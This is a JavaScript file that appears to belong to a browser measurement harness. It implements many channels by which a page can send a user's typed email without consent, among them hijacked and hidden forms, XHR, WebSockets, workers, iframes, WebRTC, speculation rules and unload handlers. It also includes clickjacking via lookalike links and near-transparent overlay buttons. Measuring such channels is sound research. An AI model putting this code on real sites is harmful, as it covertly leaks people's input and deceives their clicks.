// The hostile wing: everything by which a page can send what a person typed. The
// scripts of waysout.go may use what stands here, and to (an address that counts
// for their way), full (the same with the values in it), said (the values, for a
// body) and it (what was made ready). Source: the channels that pages measurably
// have in Chromium 156, 2026-11.
const values = () => new URLSearchParams({email: document.querySelector('input[type=email]')?.value || wing.email});
const add = (name, props) => document.body.appendChild(Object.assign(document.createElement(name), props));
const wss = (address) => address.replace('https:', 'wss:');
const far = (address) => address.replace(location.host, wing.far);
// Any text as a script of its own.
const own = (to, said) => URL.createObjectURL(new Blob([wing.speak + `say(${JSON.stringify({to, said})})`]));

const copy = (to, props) => {
  const made = add('form', {method: 'post', action: to, hidden: true, id: 'made-' + document.forms.length, ...props});
  for (const [name, value] of values()) {
    made.append(Object.assign(document.createElement('input'), {type: name === 'email' ? 'email' : 'hidden', name, value}));
  }
  made.append(Object.assign(document.createElement('button'), {type: 'submit', textContent: '…'}));
  return made;
};
// The objection form where there is one, else a form of the page's own.
const form = (to) => {
  const real = [...document.forms].find((one) => one.querySelector('input[type=email]'));
  return real ? Object.assign(real, {action: to, noValidate: true}) : copy(to);
};
const listen = (one, kind) => {
  one.addEventListener(kind, () => HTMLFormElement.prototype.submit.call(one), {once: true});
  one.querySelector('input[type=email]').dispatchEvent(new Event(kind, {bubbles: true}));
};
const xhr = (to, async) => {
  const one = new XMLHttpRequest();
  one.open('POST', to, async);
  one.send(values().toString());
};
const ending = (act) => addEventListener('pagehide', act);
const leaving = (act) => {
  ending(act);
  location.href = wing.room + 'away';
};
const speculate = (kind, address) => add('script', {
  type: 'speculationrules', textContent: JSON.stringify({[kind]: [{source: 'list', urls: [address], eagerness: 'immediate'}]}),
});
const call = async (server, policy = 'all') => {
  const line = new RTCPeerConnection({iceServers: [server], iceTransportPolicy: policy});
  line.createDataChannel('x');
  await line.setLocalDescription(await line.createOffer());
};

// What ways need to have been there before.
const things = {
  worker: () => new Worker(URL.createObjectURL(new Blob([wing.speak + 'onmessage = (e) => say(e.data)']))),
  shared: () => new SharedWorker(URL.createObjectURL(new Blob([wing.speak + 'onconnect = (e) => { e.ports[0].onmessage = (m) => say(m.data) }']))).port,
  service: async () => {
    const {installing, waiting, active} = await navigator.serviceWorker.register(wing.room + 'worker.js');
    const one = installing ?? waiting ?? active;
    if (one.state !== 'activated') await new Promise((done) => one.addEventListener('statechange', () => one.state === 'activated' && done()));
    return one;
  },
  frame: () => new Promise((done) => {
    const one = add('iframe', {src: far(location.origin + wing.room + 'frame'), hidden: true});
    one.onload = () => done(one.contentWindow);
  }),
  socket: (name) => new Promise((done) => {
    const one = new WebSocket(wss(location.origin) + wing.paths + name + '?idle');
    one.onopen = () => done(one);
  }),
};

const made = {};
const ready = Promise.race([
  new Promise((done) => setTimeout(done, 3000)),
  Promise.allSettled(wing.have.map(async (name) => {
    if (wing.needs[name]) made[name] = await things[wing.needs[name]](name);
  })),
]).then(() => true);

const send = (name) => {
  const to = location.origin + wing.paths + name, said = values().toString();
  return wing.ways[name](to, to + '?' + said + '&t=' + performance.now(), said, made[name]);
};
const onInput = (...names) => document.addEventListener('input', () => names.forEach(send), {once: true});

if (wing.when === 'walk' && !wing.isForm || wing.when === 'timer') ready.then(() => setInterval(() => wing.have.forEach(send), 400));
if (wing.isForm && wing.when === 'fill') onInput(...wing.have);
if (wing.isForm && wing.when === 'later') {
  let timer;
  document.addEventListener('input', () => {
    clearTimeout(timer);
    timer = setTimeout(() => wing.have.forEach(send), 2000);
  });
}
// The tricks: it is the link that a press is meant for.
const trick = (name) => {
  let it = document.querySelector('a[href*="/contact/"]');
  if (wing.isForm) it = add('a', {href: '/help/', textContent: 'Help', style: 'position:fixed;bottom:0;left:0;z-index:98'});
  if (!it) return;
  const as = (tag, props) => {
    const one = Object.assign(document.createElement(tag), {id: 'trick', textContent: it.textContent, style: it.style.cssText, ...props});
    one.setAttribute('role', 'link');
    it.replaceWith(one);
    return one;
  };
  wing.ways[name](location.origin + wing.paths + name, '', '', it, as);
};
const over = (one, x, y, w, h) => {
  const send = document.createElement('button');
  Object.assign(send, {type: 'submit', style: `position:fixed;opacity:0.01;z-index:99;left:${x}px;top:${y}px;width:${w}px;height:${h}px`});
  send.setAttribute('form', one.id);
  document.body.append(send);
  return send;
};
if (wing.trick) trick(wing.trick);
window.wing = {ready, send, onInput};
